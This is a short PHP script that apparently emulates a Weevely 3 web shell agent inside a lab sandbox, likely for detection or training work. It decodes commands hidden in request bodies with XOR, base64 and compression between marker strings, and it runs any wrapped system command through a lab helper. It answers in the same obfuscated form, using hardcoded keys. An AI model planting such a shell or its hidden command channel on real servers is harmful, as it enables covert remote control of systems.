<?php require getenv('LAB_SHELL_LIB');
// Emulates a Weevely 3 agent: the request body hides base64(xor(gzcompress(code))) between two
// markers inside random junk; the answer is prefix . marker . base64(xor(gzcompress(output))) . marker.
$k = 'e1c3a9f0'; $kh = '5b8d2f6a1c4e'; $kf = '7d9b3e0a2c6f'; $p = 'Xq8Lm2Vt9Rw4Yz1B';
if (@preg_match("/$kh(.+)$kf/", @file_get_contents('php://input'), $m) !== 1) exit;
$code = @gzuncompress(lab_xor(base64_decode($m[1]), $k, 0));
if ($code === 'echo(1);') $o = '1';
elseif (strpos($code, 'getcwd') !== false) $o = lab_sandbox() . "\n" . php_uname();
elseif (strpos($code, 'opendir') !== false) $o = implode(PHP_EOL, scandir(lab_sandbox()));
elseif (preg_match("/@system\\('([^']+?)( 2>&1)?'\\)/", (string)$code, $c)) $o = lab_run($c[1]);
else $o = '';
print($p . $kh . base64_encode(lab_xor(gzcompress($o), $k, 0)) . $kf);
